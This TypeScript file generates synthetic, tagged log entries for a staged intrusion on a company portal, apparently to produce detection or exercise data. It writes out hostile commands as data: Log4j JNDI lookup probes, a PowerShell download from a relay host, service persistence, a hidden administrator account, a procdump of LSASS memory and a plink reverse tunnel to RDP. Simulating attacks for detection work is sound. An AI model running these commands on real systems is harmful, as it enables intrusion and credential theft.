// First part of the story: the portal. SYNTHETIC, as all of it.
import { callHome } from "./call-home.ts";
import { at } from "./clock.ts";
import { HOSTS } from "./company.ts";
import { BAD } from "./indicators.ts";
import { LINE_FILES, type Tag } from "./journal.ts";
import type { Process } from "./machine.ts";
import { combined } from "./ordinary-network.ts";
import { TOMCAT } from "./ordinary-programs.ts";
import { placeholder } from "./placeholder.ts";
import { CACHE, CLIENT, CMD, type Stage } from "./stage.ts";
import { startProcess } from "./start.ts";
import { logConnection, logFile, logRegistry } from "./sysmon.ts";
import { logAccountMade, logGroupMember, logLogon, logScript, logService } from "./windows-logs.ts";

const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const NET = "C:\\Windows\\System32\\net.exe";
const NET1 = "C:\\Windows\\System32\\net1.exe";
const HELPER = "svc_portalhelp";
/** Nothing answers there: the name cannot exist (RFC 2606). */
const TARGET = "ldap://inert-placeholder.example/SYNTHETIC-NO-PAYLOAD";
const LOOKUP = placeholder(`jndi:${TARGET}`);

/** Monday night: lookups in requests to the portal, in the query, encoded, and as user agent. */
export function probe({ journal }: Stage): void {
  const browser = "Mozilla/5.0 (X11; Linux x86_64) ExampleBrowser/99.0";
  const lookup: Tag[] = ["log4j_lookup_in_web_request"];
  const ask = (clock: string, request: string, status: number, agent = browser, tags = lookup) => {
    const timeMs = at(0, clock);
    const line = { from: BAD.sourceAddress, timeMs, request, status, sizeBytes: 612, agent };
    journal.line(LINE_FILES.portal, timeMs, combined(line), ["sourceAddress", ...tags]);
  };
  ask("02:11:04", "GET /portal/", 200, browser, []);
  ask("02:11:09", `GET /portal/info?locale=${LOOKUP}`, 404);
  ask("02:11:31", `GET /portal/info?locale=${encodeURIComponent(LOOKUP)}`, 404);
  ask("02:12:02", "GET /portal/", 200, LOOKUP);
  ask(
    "02:12:40",
    "GET /broker/session",
    200,
    placeholder(`${placeholder("lower:j")}ndi:${TARGET}`),
  );
  ask("02:30:51", `GET /broker/session?lang=${LOOKUP}`, 200);
}

/** The Tomcat of the portal starts prompts; a survey is written into one file. */
export function breakIn({ machines: { portal } }: Stage): Process {
  const tomcat = portal.known(TOMCAT.image, TOMCAT.commandLine, "SYSTEM", at(0, "00:00:01"));
  const run = (clock: string, commandLine: string, tags: readonly Tag[], image = CMD) =>
    startProcess(portal, at(0, clock), {
      image,
      commandLine,
      user: "SYSTEM",
      parent: tomcat,
      tags: ["command_interpreter_from_tomcat", ...tags],
    });
  const shell = run("02:30:58", "cmd.exe /c whoami", []);
  startProcess(portal, at(0, "02:30:59"), {
    image: "C:\\Windows\\System32\\whoami.exe",
    commandLine: "whoami",
    user: "SYSTEM",
    parent: shell,
  });
  const survey = `${CACHE}\\inv.txt`;
  run(
    "02:40:12",
    `cmd.exe /c "systeminfo > ${survey} & tasklist /v >> ${survey} & netstat -ano >> ${survey}"`,
    ["host_survey_in_one_command", "cacheFolder"],
  );
  run("02:54:30", "powershell.exe -NoProfile -Command -", [], POWERSHELL);
  logScript(
    portal,
    at(0, "02:54:31"),
    {
      text: `(New-Object Net.WebClient).DownloadFile('http://${BAD.relayAddress}/synthetic.bin','${CLIENT}')`,
      user: "SYSTEM",
    },
    ["powershell_download_from_address", "relayAddress", "clientName"],
  );
  return shell;
}

/** The client is put down, runs, becomes a service and calls home until Thursday. */
export function settle(stage: Stage, shell: Process): void {
  const { portal } = stage.machines;
  logFile(portal, at(0, "02:55:02"), shell, CLIENT, ["clientName"]);
  logFile(portal, at(0, "02:55:40"), shell, `${CACHE}\\tmsvc.dll`, ["cacheFolder"]);
  const services = portal.known(
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\system32\\services.exe",
    "SYSTEM",
    at(0, "00:00:01"),
  );
  const values = [
    { target: `${BAD.serviceKey}\\ImagePath`, details: `${CLIENT} -k sync`, tags: ["clientName"] },
    { target: `${BAD.serviceKey}\\Start`, details: "DWORD (0x00000002)", tags: [] },
  ] as const;
  for (const { target, details, tags } of values)
    logRegistry(portal, at(0, "02:56:11"), services, { target, details }, ["serviceKey", ...tags]);
  logService(portal, at(0, "02:56:11"), { name: "TideMarkSync", path: `${CLIENT} -k sync` }, [
    "service_in_program_data",
    "clientName",
  ]);
  const client = startProcess(portal, at(0, "02:56:13"), {
    image: CLIENT,
    commandLine: `${CLIENT} -k sync`,
    user: "SYSTEM",
    parent: services,
    digests: { sha256: BAD.clientSha256 },
    tags: ["clientSha256", "clientName"],
  });
  callHome(stage, "portal", client, at(0, "02:56:20"), 14);
}

/** Tuesday night: an account, the memory of LSASS, a tunnel, remote desktop through it. */
export function takeOver({ machines: { portal } }: Stage, shell: Process): void {
  const run = (clock: string, image: string, commandLine: string, tags: readonly Tag[] = []) =>
    startProcess(portal, at(1, clock), { image, commandLine, user: "SYSTEM", parent: shell, tags });
  const account: Tag[] = ["local_account_and_administrator"];
  run("01:12:05", NET, `net user ${HELPER} * /add`, account);
  run("01:12:05", NET1, `C:\\Windows\\system32\\net1 user ${HELPER} * /add`, account);
  logAccountMade(portal, at(1, "01:12:06"), HELPER, "SYSTEM");
  run("01:12:30", NET, `net localgroup administrators ${HELPER} /add`, account);
  run(
    "01:12:30",
    NET1,
    `C:\\Windows\\system32\\net1 localgroup administrators ${HELPER} /add`,
    account,
  );
  logGroupMember(portal, at(1, "01:12:31"), {
    user: HELPER,
    group: "Administrators",
    by: "SYSTEM",
  });
  run(
    "01:20:44",
    `${CACHE}\\procdump64.exe`,
    `procdump64.exe -accepteula -ma lsass.exe ${CACHE}\\l.dmp`,
    ["lsass_credentials", "cacheFolder"],
  );
  const plink = run(
    "01:58:10",
    `${CACHE}\\plink.exe`,
    `${CACHE}\\plink.exe -N -R 33890:127.0.0.1:3389 -P 443 tunnel@${BAD.relayAddress}`,
    ["plink_tunnel_to_rdp", "tunnel", "relayAddress", "cacheFolder"],
  );
  logConnection(portal, at(1, "01:58:12"), plink, { address: BAD.relayAddress, port: 443 }, [
    "relayAddress",
    "cacheFolder",
  ]);
  for (const clock of ["02:03:27", "02:41:55"])
    logLogon(
      portal,
      at(1, clock),
      { user: HELPER, type: 10, address: "127.0.0.1", workstation: HOSTS.portal.name },
      ["rdp_from_loopback"],
    );
}
